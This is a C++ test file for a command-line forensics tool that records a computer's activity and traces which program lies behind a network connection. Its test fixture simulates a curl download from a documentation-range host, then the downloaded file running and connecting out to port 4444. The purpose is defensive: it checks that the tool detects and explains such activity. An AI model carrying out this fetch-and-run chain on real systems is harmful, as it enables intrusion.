// SPDX-License-Identifier: GPL-3.0-or-later
// The activity history of a computer, from the command line: what it holds, and what was behind a connection.
#include "tests/cli/cli_program.h"
#include "tests/endpoint/scenario.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

using namespace metsuke;
using namespace metsuke::test;
using metsuke::endpoint::test::Scenario;
using testing::HasSubstr;
using testing::Not;

namespace {

/// A download that connects; 1,790,000,000 is 2026-09-21T14:13:20.
void tell(Scenario& s) {
    const auto sshd = s.running("/usr/sbin/sshd", s.running("/usr/lib/systemd/systemd"));
    const auto curl = s.at(10).run(sshd, "/usr/bin/curl", {"curl", "-o", "/tmp/u", "http://203.0.113.8/"});
    s.connect(curl, "203.0.113.8", 80, 40'000);
    s.write(curl, "/tmp/u", {8, 2});
    s.at(20).connect(s.run(sshd, "/tmp/u", {}, {8, 2}), "203.0.113.9", 4444, 50'000);
    s.tell({}, endpoint::Gap{"file", endpoint::test::seconds(25), 7, "queue_overflow"});
    ASSERT_TRUE(s.writer().commit().ok());
}

std::vector<std::string> question(const Scenario& s, std::vector<std::string> more) {
    std::vector<std::string> arguments{"trace", "--history", s.folder().string()};
    arguments.insert(arguments.end(), more.begin(), more.end());
    return arguments;
}

} // namespace

TEST(CliTrace, Connection_isExplainedInWordsAndAsJson) {
    Scenario s;
    tell(s);
    const auto asked = question(s, {"--at", "2026-09-21T14:13:40Z", "--remote", "203.0.113.9:4444", "--local", "10.0.0.5:50000"});
    const Ran words = run(asked);
    EXPECT_EQ(words.exitCode, 0) << words.err;
    EXPECT_THAT(words.out, HasSubstr("/tmp/u connected to 203.0.113.9:4444"));
    EXPECT_THAT(words.out, HasSubstr("downloaded from 203.0.113.8:80"));
    EXPECT_THAT(words.out, HasSubstr("! The sensor for file missed something (queue_overflow); 7 events."));
    auto json = asked;
    json.push_back("--json");
    const Json document = Json::parse(run(json).out);
    EXPECT_EQ(document["entry"], "download");
    EXPECT_EQ(document["nodes"][document["subject"].get<size_t>()]["label"], "/tmp/u");
    auto japanese = asked;
    japanese.insert(japanese.begin(), {"--lang", "ja"});
    EXPECT_THAT(run(japanese).out, HasSubstr("背後にあるプログラムは /tmp/u です。"));
}

TEST(CliTrace, WholeMinute_isSearched) {
    Scenario s;
    tell(s);
    const Ran ran = run(question(s, {"--at", "2026-09-21T14:13", "--remote", "203.0.113.9:4444"}));
    EXPECT_EQ(ran.exitCode, 0);
    EXPECT_THAT(ran.out, HasSubstr("The program behind it is /tmp/u"));
}

TEST(CliTrace, WrongQuestions_areRefused) {
    Scenario s;
    tell(s);
    for (const auto& [at, remote] : {std::pair<const char*, const char*>{"yesterday", "203.0.113.9:4444"}, {"-2h", "203.0.113.9"},
             {"2026-09-21", "203.0.113.9:99999"}, {"2026-09-21", "example.org:80"}, {"2026-09-21", "2001:db8::1]:80"}}) {
        const Ran ran = run(question(s, {"--at", at, "--remote", remote}));
        EXPECT_EQ(ran.exitCode, 2) << at << ' ' << remote;
        EXPECT_EQ(ran.out, "");
    }
    EXPECT_EQ(run({"trace", "--history", "/nowhere", "--at", "2026-09-21", "--remote", "203.0.113.9"}).exitCode, 3);
}

TEST(CliHistory, Exported_isImportedAsTheSame) {
    Scenario s;
    tell(s);
    const ScratchFolder folder;
    const Ran exported = run({"history", s.folder().string(), "--export"});
    writeFile(folder / "lines", exported.out);
    const Ran imported = run({"history", folder / "copy", "--import", folder / "lines"});
    EXPECT_EQ(imported.exitCode, 0) << imported.err;
    EXPECT_THAT(imported.err, HasSubstr("Imported 12 activities"));
    EXPECT_EQ(run({"history", folder / "copy", "--export"}).out, exported.out);
    EXPECT_EQ(run({"history", folder / "piped", "--import", "-"}, folder / "lines").exitCode, 0);
    EXPECT_EQ(run({"history", folder / "copy", "--import", folder / "lines"}).exitCode, 2);
    writeFile(folder / "wrong", exported.out + "{\"time\":1,\"gap\":{\"sensor\":7}}\n");
    const Ran refused = run({"history", folder / "other", "--import", folder / "wrong"});
    EXPECT_EQ(refused.exitCode, 3);
    EXPECT_THAT(refused.err, HasSubstr("Line 13: gap.sensor: a text in quotes was expected."));
    writeFile(folder / "long", std::string(1 << 20, 'x'));
    EXPECT_THAT(run({"history", folder / "third", "--import", folder / "long"}).err, HasSubstr("Line 1: "));
    EXPECT_EQ(run({"history", folder / "fourth", "--import", folder / "none"}).exitCode, 3);
}

TEST(CliHistory, Folder_tellsTotalsGapsAndEveryActivity) {
    Scenario s;
    tell(s);
    const std::string folder = s.folder().string();
    const Ran words = run({"history", folder});
    EXPECT_EQ(words.exitCode, 0) << words.err;
    EXPECT_THAT(words.out, HasSubstr("12 activities in 1 segment"));
    EXPECT_THAT(words.out, HasSubstr("(queue_overflow), 7 events"));
    const Json document = Json::parse(run({"history", folder, "--json"}).out);
    EXPECT_EQ(document["activities"], 12);
    EXPECT_EQ(document["gaps"].size(), 1U);
    EXPECT_EQ(rows({"history", folder, "--export"}).size(), 12U);
    EXPECT_THAT(run({"history", folder, "--verify"}).out, HasSubstr("segment-00000001.db  not_sealed"));
    EXPECT_EQ(run({"history", "/nowhere"}).exitCode, 3);
}

TEST(CliHistory, DetectionsOfAnAntivirus_areListedTheLastFirst) {
    Scenario s;
    tell(s);
    for (int i = 0; i < 21; ++i) {
        s.at(1000 + i).tell({}, endpoint::Detected{"ClamAV", "Sig-" + std::to_string(i), "/tmp/u", {}, endpoint::Detected::Outcome::Removed, {}}, "clamav_log");
    }
    const std::string folder = s.folder().string();
    ASSERT_TRUE(s.writer().commit().ok());
    const Ran words = run({"history", folder});
    EXPECT_THAT(words.out, HasSubstr("ClamAV found Sig-20 in /tmp/u at"));
    EXPECT_THAT(words.out, Not(HasSubstr("Sig-0 "))) << "only the last 20";
    EXPECT_THAT(words.out, HasSubstr("the last 20 detections"));
    const Json json = Json::parse(run({"history", folder, "--json"}).out);
    EXPECT_EQ(json["detections"].size(), 20U);
    EXPECT_EQ(json["detections"][0]["outcome"], "removed");
    EXPECT_EQ(json["more_detections"], true);
}

TEST(CliHistory, Window_isHeldBesideAWriterAndReleased) {
    Scenario s;
    tell(s);
    const std::string folder = s.folder().string();
    const Ran held = run({"history", folder, "--hold", "2026-09-21T14:00..2026-09-21T15:00Z", "--reason", "case C-104"});
    EXPECT_EQ(held.exitCode, 0) << held.err;
    EXPECT_THAT(held.out, HasSubstr("case C-104"));
    ASSERT_TRUE(s.writer().state().ok());
    ASSERT_EQ(s.writer().holds().size(), 1U); // the writer knows of it
    const Json json = Json::parse(run({"history", folder, "--json"}).out);
    const std::string window = json["holds"][0]["from"].get<std::string>() + ".." + json["holds"][0]["until"].get<std::string>();
    EXPECT_EQ(run({"history", folder, "--release", "2026-09-21T14:00..2026-09-21T16:00"}).exitCode, 3);
    const Ran released = run({"history", folder, "--release", window});
    EXPECT_EQ(released.exitCode, 0) << released.err;
    EXPECT_THAT(released.out, Not(HasSubstr("case C-104")));
    for (const char* wrong : {"2026-09-21", "yesterday..now", "2026-09-22..2026-09-21", ".."}) {
        const Ran refused = run({"history", folder, "--hold", wrong});
        EXPECT_EQ(refused.exitCode, 2) << wrong;
        EXPECT_THAT(refused.err, HasSubstr("is not a window of time"));
    }
}
